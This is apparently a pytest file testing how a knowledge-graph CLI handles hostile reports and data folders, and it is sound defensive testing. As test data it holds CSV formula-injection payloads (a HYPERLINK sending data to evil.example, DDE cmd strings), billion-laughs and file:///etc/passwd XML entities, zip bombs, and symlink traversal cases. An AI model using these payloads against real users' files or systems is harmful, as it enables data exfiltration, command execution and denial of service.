"""Hostile input files (issue 18): what a report, a data file or a folder handed to the user can do,
and what it must not.

- CSV meant for a spreadsheet never holds a live formula, and still reads back exactly (finding 7).
- An RDF/XML file that declares XML entities is refused before it is parsed (finding 8).
- ``extract`` reads a hostile report in bounded time and memory, or refuses it with a clear error
  naming the file and the option that raises the limit (finding 9).
- No link in a folder handed to the user leads a read or a write outside it, and no local path
  goes into the graph (finding 11).
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import resource
import subprocess
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers.hostile_files import PARAGRAPH, docx, pdf
from helpers.servers import kg_command

from resilience_kg.cli import main
from resilience_kg.graph.csv_reader import read_table
from resilience_kg.tabulate import FORMULA_STARTS, from_spreadsheet_cell, spreadsheet_cell, spreadsheet_csv

# --- finding 7: formulas in the CSV files meant for a spreadsheet --------------------------------

#: Cells a spreadsheet runs: a link that sends a neighbouring cell away, DDE, a function, a
#: formula behind a minus sign, one after a tab.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
]
REPORT = """# Rapat Koordinasi Ketahanan Kota

Jakarta, 12 Maret 2024

Peserta:
- {} Badan Penanggulangan Bencana Daerah (BPBD)
- {} Dinas Sumber Daya Air
- {} Palang Merah Indonesia (PMI)
- {} Yayasan Kota Kita

Isu yang dibahas:
- banjir rob di Jakarta Utara
""".format(*FORMULAS)
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def live_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell)]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def extract(runner: CliRunner, report: Path, out: Path) -> None:
    result = runner.invoke(main, ["extract", str(report), "-o", str(out)])
    assert result.exit_code == 0, result.output


@pytest.fixture
def drafts(tmp_path: Path, runner: CliRunner) -> Path:
    report = tmp_path / "rapat.md"
    report.write_text(REPORT, encoding="utf-8")
    extract(runner, report, tmp_path / "drafts")
    return tmp_path / "drafts"


def test_the_drafts_hold_no_live_formula(drafts: Path) -> None:
    for name in ("elements.csv", "connections.csv", "sources.csv"):
        text = (drafts / name).read_text(encoding="utf-8")
        assert live_cells(text) == [], name
    # The report's formulas did reach the drafts (as guarded text), or the test proves nothing.
    guarded = cells((drafts / "connections.csv").read_text(encoding="utf-8"))
    for formula in FORMULAS:
        assert any(formula in c and c.startswith("'") for c in guarded), formula


def test_the_drafts_quotes_read_back_exactly(drafts: Path, runner: CliRunner, tmp_path: Path) -> None:
    # The project's reader takes the guard off: every quote is the source text at its offsets.
    text = (drafts / "sources" / "rapat.txt").read_text(encoding="utf-8")
    quotes = []
    for name in ("elements.csv", "connections.csv"):
        for row in read_table(drafts / name).rows:
            if row.get("quote"):
                assert text[int(row.get("start")):int(row.get("end"))] == row.get("quote"), row.location
                quotes.append(row.get("quote"))
    assert any(q.startswith("- " + FORMULAS[0]) for q in quotes)
    # build checks every quote against its offsets (it refuses a quote that moved): it passes, and
    # the graph holds the quote exactly as the report has it.
    result = runner.invoke(main, ["build", "--data", str(drafts), "--include-drafts", "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    from resilience_kg.graph.dataset import load_graph

    kg = load_graph([drafts], include_drafts=True)
    exact = {sol["q"].value for sol in kg.store.query(
        "SELECT ?q { GRAPH ?g { ?s <http://www.w3.org/ns/oa#exact> ?q } }")}
    for formula in FORMULAS:
        assert any(q.startswith(f"- {formula} ") for q in exact), formula


def test_extract_again_keeps_the_drafts_and_their_review_exact(drafts: Path, runner: CliRunner,
                                                              tmp_path: Path) -> None:
    before = {name: (drafts / name).read_bytes() for name in ("elements.csv", "connections.csv", "sources.csv")}
    extract(runner, tmp_path / "rapat.md", drafts)
    assert {name: (drafts / name).read_bytes() for name in before} == before  # no second guard
    # A reviewer accepts a row (as a spreadsheet saves it: without the guard on the quote) and
    # rejects another; a new extraction keeps both reviews, and guards the quote again.
    rows = list(csv.reader(io.StringIO(before["connections.csv"].decode(), newline="")))
    header = rows[0]
    q, s = header.index("quote"), header.index("status")
    rows[1][q] = from_spreadsheet_cell(rows[1][q])
    rows[1][s], rows[2][s] = "accepted", "rejected"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    (drafts / "connections.csv").write_text(buf.getvalue(), encoding="utf-8")
    extract(runner, tmp_path / "rapat.md", drafts)
    again = (drafts / "connections.csv").read_text(encoding="utf-8")
    assert live_cells(again) == []
    reread = read_table(drafts / "connections.csv").rows
    assert [r.get("status") for r in reread[:3]] == ["accepted", "rejected", "draft"]
    original = read_table(io_file(tmp_path / "before.csv", before["connections.csv"])).rows
    assert [r.get("quote") for r in reread] == [r.get("quote") for r in original]


def io_file(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


HOSTILE_ELEMENTS = """id,type,label_id,label_en,basis,confidence,note
evil-actor,GovernmentAgency,"=HYPERLINK(""http://evil.example/?d=""&B2,""Klik"")",@SUM(A1:A9),curated,well-attested,x
evil-issue,Issue,+cmd|' /C calc'!A0,-2+3+cmd|' /C calc'!A0,curated,well-attested,x
"""
HOSTILE_CONNECTIONS = """from,to,type,basis,confidence,note
evil-actor,issue-early-warning-system,worksOn,curated,well-attested,x
"""


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "elements.csv").write_text(HOSTILE_ELEMENTS, encoding="utf-8")
    (folder / "connections.csv").write_text(HOSTILE_CONNECTIONS, encoding="utf-8")
    return folder


@pytest.mark.parametrize(("args", "shown"), [
    (["analyze"], "'@SUM(A1:A9)"),
    (["gaps"], "'-2+3+cmd|' /C calc'!A0"),
    (["connections"], "'@SUM(A1:A9)"),
], ids=["analyze", "gaps", "connections"])
def test_analysis_tables_as_csv_hold_no_live_formula(runner: CliRunner, hostile_data: Path, args: list[str],
                                                     shown: str) -> None:
    result = runner.invoke(main, [*args, "--data", str(hostile_data), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert live_cells(result.stdout) == []
    assert shown in cells(result.stdout)  # the label is there, as text


def test_sparql_csv_results_stay_exact(runner: CliRunner, hostile_data: Path) -> None:
    # The W3C SPARQL CSV results are data for programs, compared value for value: left exact (the
    # README says so; a spreadsheet user asks `analyze` or `query --format table`).
    query = 'SELECT ?l { ?a skos:prefLabel ?l FILTER(STRSTARTS(STR(?a), "https://w3id.org/resilience-kg/id/evil")) }'
    result = runner.invoke(main, ["query", query, "--data", str(hostile_data), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert "@SUM(A1:A9)" in cells(result.stdout)


def test_any_text_is_guarded_and_read_back_exactly() -> None:
    # The class, not the given texts: random cells built from the characters that matter.
    rng = random.Random(18)
    alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", " ", "1", ".", "e", "a", "|", "!"]
    samples = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8))) for _ in range(20_000)]
    for text in samples:
        guarded = spreadsheet_cell(text)
        assert isinstance(guarded, str)
        assert from_spreadsheet_cell(guarded) == text, repr(text)
        assert not guarded.startswith(FORMULA_STARTS) or _NUMBER.fullmatch(guarded), repr(text)
    written = spreadsheet_csv(["id", "quote"], [[str(i), t] for i, t in enumerate(samples)])
    assert live_cells(written) == []
    read_back = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert [from_spreadsheet_cell(q) for _, q in read_back] == samples


# --- finding 8: entity expansion in RDF/XML ---------------------------------------------------------

RDF_HEAD = '<?xml version="1.0"?>\n'
RDF_BODY = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
  xmlns:skos="http://www.w3.org/2004/02/skos/core#">
 <rdf:Description rdf:about="https://w3id.org/resilience-kg/id/xml-actor">
  <skos:prefLabel>{label}</skos:prefLabel>
 </rdf:Description>
</rdf:RDF>
"""


def laughs(levels: int) -> str:
    """The "billion laughs": each entity ten times the one before; ``levels`` of them."""
    decls = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels)]
    return RDF_HEAD + "<!DOCTYPE rdf:RDF [\n" + "\n".join(decls) + "\n]>\n" + RDF_BODY.format(label=f"&l{levels - 1};")


#: Every way to declare an entity, each of which expands (or reads a file) when parsed.
ENTITY_FILES = {
    "nested": laughs(5),  # 200 kB from a few hundred bytes: the class, at a size main still survives
    "parameter": RDF_HEAD + '<!DOCTYPE rdf:RDF [\n<!ENTITY % p "x">\n]>\n' + RDF_BODY.format(label="x"),
    "external": RDF_HEAD + '<!DOCTYPE rdf:RDF [\n<!ENTITY e SYSTEM "file:///etc/passwd">\n]>\n'
                + RDF_BODY.format(label="&e;"),
    "namespace-style": RDF_HEAD + '<!DOCTYPE rdf:RDF [\n  <!ENTITY skos "http://www.w3.org/2004/02/skos/core#" >\n]>\n'
                       + RDF_BODY.format(label="&skos;"),
    "after-a-long-comment": RDF_HEAD + "<!--" + "x" * ((1 << 20) - 26) + "-->\n<!DOCTYPE rdf:RDF [\n"
                            '<!ENTITY a "aaaa">\n]>\n' + RDF_BODY.format(label="&a;"),
}


@pytest.mark.parametrize("name", sorted(ENTITY_FILES))
@pytest.mark.parametrize("command", ["build", "validate"])
def test_rdf_xml_that_declares_entities_is_refused_before_parsing(runner: CliRunner, tmp_path: Path, name: str,
                                                                   command: str) -> None:
    text = ENTITY_FILES[name]
    data = tmp_path / ("data.owl" if name == "namespace-style" else "data.rdf")
    data.write_text(text, encoding="utf-8")
    line = text[: text.find("<!ENTITY")].count("\n") + 1
    args = (["build", "--data", str(data), "--out", str(tmp_path / "out")] if command == "build"
            else ["validate", str(data)])
    result = runner.invoke(main, args)
    assert result.exit_code == 2, result.output
    assert f"{data}:{line}: " in result.output and "entity" in result.output, result.output
    assert not (tmp_path / "out").exists()


def test_an_entity_declaration_across_a_read_boundary_is_found(tmp_path: Path) -> None:
    from resilience_kg.errors import DataError
    from resilience_kg.graph.xml_entities import check_rdf_xml

    for shift in range(1, 8):  # "<!ENTITY" cut after each of its characters by the 1 MiB chunk
        data = tmp_path / f"cut{shift}.rdf"
        head = RDF_HEAD + "<!--" + "\n" * ((1 << 20) - len(RDF_HEAD) - 4 - shift)
        data.write_text(head + '-->\n<!DOCTYPE r [<!ENTITY a "x">]>\n<r/>', encoding="utf-8")
        with pytest.raises(DataError, match=rf":{head.count(chr(10)) + 2}: "):
            check_rdf_xml(data)


def test_rdf_xml_without_entities_still_loads(runner: CliRunner, tmp_path: Path) -> None:
    plain = tmp_path / "plain.rdf"
    plain.write_text(RDF_HEAD + RDF_BODY.format(label="Aktor XML"), encoding="utf-8")
    doctype = tmp_path / "doctype.rdf"  # a DOCTYPE that declares nothing is harmless
    doctype.write_text(RDF_HEAD + "<!DOCTYPE rdf:RDF>\n" + RDF_BODY.format(label="Aktor XML 2"), encoding="utf-8")
    query = "SELECT ?l { ?a skos:prefLabel ?l FILTER(STRSTARTS(?l, 'Aktor XML')) } ORDER BY ?l"
    result = runner.invoke(main, ["query", query, "--data", str(plain), "--data", str(doctype), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == ["l", "Aktor XML", "Aktor XML 2"]


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))


def test_a_billion_laughs_is_refused_at_once(tmp_path: Path) -> None:
    # The full attack (10^9 "ha" from about a kilobyte), in a process of its own with 1 GiB of
    # address space: before the fix it ran out of memory or time.
    data = tmp_path / "laughs.rdf"
    data.write_text(laughs(10), encoding="utf-8")
    assert data.stat().st_size < 2000
    done = subprocess.run(kg_command("build", "--data", str(data), "--out", str(tmp_path / "out")),
                          capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
                          preexec_fn=_limit_memory)
    assert done.returncode == 2, done.stderr[-2000:]
    assert f"{data}:3: " in done.stderr and "Traceback" not in done.stderr


# --- finding 9: what reading a report may cost ---------------------------------------------------



def refused_report(runner: CliRunner, tmp_path: Path, report: Path, option: str, *extra: str) -> str:
    """Run extract on ``report``: it must stop with exit 2, naming the file and the option to pass,
    at once, and write nothing."""
    started = time.monotonic()
    result = runner.invoke(main, ["extract", str(report), "-o", str(tmp_path / "drafts"), *extra])
    elapsed = time.monotonic() - started
    assert result.exit_code == 2, result.output
    assert f"{report}: " in result.output and f"extract {option}" in result.output, result.output
    assert not (tmp_path / "drafts").exists()
    assert elapsed < 30, f"refused, but only after {elapsed:.0f} s"
    return result.output


def test_a_docx_zip_bomb_is_refused_by_its_unzipped_size(runner: CliRunner, tmp_path: Path) -> None:
    # 21 MiB of document in a file of about 60 kB: refused from the zip directory, unread.
    body = PARAGRAPH * ((21 << 20) // len(PARAGRAPH))
    report = docx(tmp_path / "bomb.docx", body)
    assert report.stat().st_size < 200_000
    output = refused_report(runner, tmp_path, report, "--max-mib 22")
    assert "unzips to 21" in output


def test_a_docx_whose_pictures_unzip_past_the_limit_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    report = docx(tmp_path / "photos.docx", PARAGRAPH, media=bytes(3 << 20))
    refused_report(runner, tmp_path, report, "--max-mib 4", "--max-mib", "2")
    result = runner.invoke(main, ["extract", str(report), "-o", str(tmp_path / "drafts"), "--max-mib", "4"])
    assert result.exit_code == 0, result.output  # the option raises the limit


def test_a_docx_of_many_empty_paragraphs_is_refused_by_their_number(runner: CliRunner, tmp_path: Path) -> None:
    # python-docx spends a fixed time on each paragraph: 60,000 empty ones (a 360 kB part, far under
    # the size limit) took about 15 s; they count as pages of 20.
    report = docx(tmp_path / "empty.docx", "<w:p/>" * 60_000)
    output = refused_report(runner, tmp_path, report, "--max-pages 3000")
    assert "60,000 paragraphs" in output


def test_a_docx_is_read_no_further_than_its_character_limit(runner: CliRunner, tmp_path: Path) -> None:
    report = docx(tmp_path / "long.docx", PARAGRAPH * 5_000)
    refused_report(runner, tmp_path, report, "--max-chars N", "--max-chars", "10000")


def test_a_pdf_of_thousands_of_shared_pages_is_refused_by_its_page_count(runner: CliRunner, tmp_path: Path) -> None:
    # Every page shares one content stream: 5,000 pages in a 30 kB file (15 s and more to read).
    report = pdf(tmp_path / "shared.pdf", 5000, ["Rapat koordinasi BPBD dan Dinas Sumber Daya Air"] * 40)
    assert report.stat().st_size < 40_000
    refused_report(runner, tmp_path, report, "--max-pages 5000")


def test_a_pdf_is_read_no_further_than_its_character_limit(runner: CliRunner, tmp_path: Path) -> None:
    lines = [f"Baris {i}: rapat koordinasi BPBD dan Dinas Sumber Daya Air" for i in range(40)]
    report = pdf(tmp_path / "long.pdf", 400, lines)
    output = refused_report(runner, tmp_path, report, "--max-chars N", "--max-chars", "5000")
    assert "first 3 of 400 page(s)" in output


@pytest.mark.parametrize("suffix", [".html", ".txt", ".md"])
def test_a_report_past_the_size_limit_is_refused_unread(runner: CliRunner, tmp_path: Path, suffix: str) -> None:
    report = tmp_path / f"big{suffix}"
    report.write_text("<p>Rapat BPBD.</p>\n" * 90_000)  # 1.6 MiB
    refused_report(runner, tmp_path, report, "--max-mib 2", "--max-mib", "1")


def test_a_text_past_the_character_limit_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    report = tmp_path / "long.txt"
    report.write_text("Rapat koordinasi BPBD dan Dinas Sumber Daya Air.\n" * 1000)
    refused_report(runner, tmp_path, report, "--max-chars 49000", "--max-chars", "1000")


#: Markup that the stdlib html.parser rescans from every "<" to the end of the page: each took it
#: minutes at a few hundred kB (it is quadratic); a page is now read once, character by character.
HOSTILE_MARKUP = ["<a", "<a x", "<a href='x", "<!--", "<a x='>", "</a x='", "<![CDATA[", "<a '", "< a", "<a/"]


def test_hostile_html_is_read_in_linear_time(tmp_path: Path) -> None:
    from resilience_kg.extract.readers import html_main_text

    page = "<html><body><main><p>Rapat koordinasi BPBD.</p></main>{}</body></html>"
    for markup in HOSTILE_MARKUP:
        times = []
        for size in (100_000, 400_000):
            hostile = page.format(markup * (size // len(markup)))
            best = float("inf")
            for _ in range(3):
                # CPU time of this process, the best of three: other work on a busy machine
                # neither counts nor adds noise, as wall time did.
                started = time.process_time()
                text, _ = html_main_text(hostile)
                best = min(best, time.process_time() - started)
            times.append(best)
            assert text.startswith("Rapat koordinasi BPBD."), markup
        # Four times the page, about four times the work (quadratic would be sixteen times); the
        # floor keeps the clock's granularity on tiny times from failing the test.
        assert times[1] < max(10 * times[0], 0.5), (markup, times)


def test_a_hostile_html_report_is_extracted_at_once(tmp_path: Path) -> None:
    # The reported case, end to end: 160 kB of "<a" after the text (it took 20 s; "<a x", minutes).
    report = tmp_path / "halaman.html"
    report.write_text("<html><body><main><p>Rapat koordinasi Badan Penanggulangan Bencana Daerah (BPBD) dan "
                      "Palang Merah Indonesia (PMI).</p></main>" + "<a x" * 40_000 + "</body></html>")
    done = subprocess.run(kg_command("extract", str(report), "-o", str(tmp_path / "drafts")), capture_output=True,
                          text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    assert "BPBD" in (tmp_path / "drafts" / "sources" / "halaman.txt").read_text(encoding="utf-8")


def test_html_is_read_as_before(tmp_path: Path) -> None:
    # The tokenizer replaces html.parser: every page of the development set reads as it did.
    from html.parser import HTMLParser

    from resilience_kg.extract.readers import _MainText, html_main_text

    class Stdlib(HTMLParser):
        def __init__(self, sink: _MainText) -> None:
            super().__init__(convert_charrefs=True)
            self.handle_starttag = sink.handle_starttag  # type: ignore[method-assign]
            self.handle_endtag = sink.handle_endtag  # type: ignore[method-assign]
            self.handle_data = sink.handle_data  # type: ignore[method-assign]

    pages = [p.read_text(encoding="utf-8") for p in sorted(Path(__file__).parent.glob("extract_devset/*.htm*"))]
    pages += ["<p>a &amp; b<br/>c</p><ul><li>x<li>y</ul>", "<div class='nav'>menu</div><main><p>Isi</p></main>",
              "<script>var a = '<p>x</p>';</script><p>ok</p>", "<p>a < b and c > d</p>", '<p title="x>y">t</p>',
              "<title>T &amp; U</title><p hidden>h</p><p>v</p>", "<p>1</p><!-- c --><p>2</p><?pi x?><p>3</p>",
              "<P CLASS=Footer>f</P><p>x</p>", "<p>&#65;&#x42;&nbsp;C</p>", "<table><tr><td>a<td>b</table>"]
    assert len(pages) >= 12
    for page in pages:
        sink = _MainText()
        stdlib = Stdlib(sink)
        stdlib.feed(page)
        stdlib.close()
        sink.close()
        inside = [text for in_main, text in sink.blocks if in_main]
        expected = "\n".join(inside if inside else [text for _, text in sink.blocks])
        assert html_main_text(page)[0] == expected, page[:80]


# --- finding 11: links in folders, and local paths in the graph -------------------------------------

def test_extract_does_not_write_through_a_symlinked_sources_folder(runner: CliRunner, tmp_path: Path) -> None:
    report = tmp_path / "rapat.md"
    report.write_text(REPORT, encoding="utf-8")
    out, elsewhere = tmp_path / "drafts", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "sources").symlink_to(elsewhere)
    result = runner.invoke(main, ["extract", str(report), "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert f"{out / 'sources'}: a symbolic link" in result.output
    assert list(elsewhere.iterdir()) == []
    assert sorted(p.name for p in out.iterdir()) == ["sources"]  # nothing written, not even the tables


@pytest.mark.parametrize("name", ["elements.csv", "sources/rapat.txt", "review.html"])
def test_extract_does_not_write_through_a_linked_output_file(runner: CliRunner, tmp_path: Path, name: str) -> None:
    report = tmp_path / "rapat.md"
    report.write_text(REPORT, encoding="utf-8")
    out = tmp_path / "drafts"
    extract(runner, report, out)
    victim = tmp_path / "victim.txt"
    victim.write_text("the user's file\n")
    (out / name).unlink()
    (out / name).symlink_to(victim)
    result = runner.invoke(main, ["extract", str(report), "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert f"{out / name}: a symbolic link" in result.output
    assert victim.read_text() == "the user's file\n"


SECRET_LINE = "root-secret,hunter2-password,never-show-me"


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_a_linked_table_in_a_data_folder_is_not_read(runner: CliRunner, tmp_path: Path, link: str) -> None:
    # A table that is a link to a file outside its folder is refused unread: the message names it
    # and shows none of the linked file (before, the header line came back as "found: ...").
    secret = tmp_path / "private" / "notes.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET_LINE + "\n")
    folder = tmp_path / "shared-data"
    folder.mkdir()
    (folder / "elements.csv").write_text(HOSTILE_ELEMENTS.splitlines()[0] + "\n")
    table = folder / "connections.csv"
    if link == "symlink":
        table.symlink_to(secret)
    else:
        os.link(secret, table)
    for args in (["build", "--data", str(folder), "--out", str(tmp_path / "out")], ["validate", str(folder)]):
        result = runner.invoke(main, args)
        assert result.exit_code == 2, result.output
        assert str(table) in result.output and ("hard link" if link == "hardlink" else "symbolic link") in result.output
        for word in SECRET_LINE.split(","):
            assert word not in result.output


def test_a_symlinked_table_inside_its_folder_still_loads(runner: CliRunner, tmp_path: Path) -> None:
    folder = tmp_path / "data"
    (folder / "tables").mkdir(parents=True)
    (folder / "tables" / "elements.csv").write_text(HOSTILE_ELEMENTS)
    (folder / "elements.csv").symlink_to(folder / "tables" / "elements.csv")
    result = runner.invoke(main, ["build", "--data", str(folder), "--no-validate", "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output


def recorded_in(kg: object) -> set[str]:
    return {sol["r"].value for sol in kg.store.query(  # type: ignore[attr-defined]
        "SELECT DISTINCT ?r { GRAPH ?g { ?s <https://w3id.org/resilience-kg/ontology#recordedIn> ?r } }")}


def test_recorded_in_holds_no_local_path(tmp_path: Path, hostile_data: Path) -> None:
    # The folder as typed (absolute here, as a home folder would be): the graph records the table's
    # name in it, the row's line, and nothing of where the folder lies.
    from resilience_kg.graph.dataset import load_graph

    table = tmp_path / "deep" / "home" / "analyst" / "extra.csv"
    table.parent.mkdir(parents=True)
    table.write_text(HOSTILE_CONNECTIONS)
    kg = load_graph([hostile_data.absolute(), table.absolute()])
    recorded = recorded_in(kg)
    assert {"elements.csv:2", "elements.csv:3", "connections.csv:2", "extra.csv:2"} <= recorded
    assert not [r for r in recorded if "/" in r or "\\" in r or str(tmp_path) in r]
    # Messages still name the file as the user typed it.
    assert kg.origins["https://w3id.org/resilience-kg/id/evil-actor"] == f"{hostile_data.absolute()}/elements.csv:2"


def test_nothing_the_graph_sends_or_shows_holds_the_data_folder(runner: CliRunner, tmp_path: Path,
                                                               hostile_data: Path) -> None:
    # What push sends is the named graphs as exported; entity pages show the graph's statements.
    out = tmp_path / "graph.trig"
    result = runner.invoke(main, ["export", "--format", "trig", "-o", str(out), "--data", str(hostile_data.absolute())])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert '"elements.csv:2"' in text
    assert str(hostile_data.parent) not in text
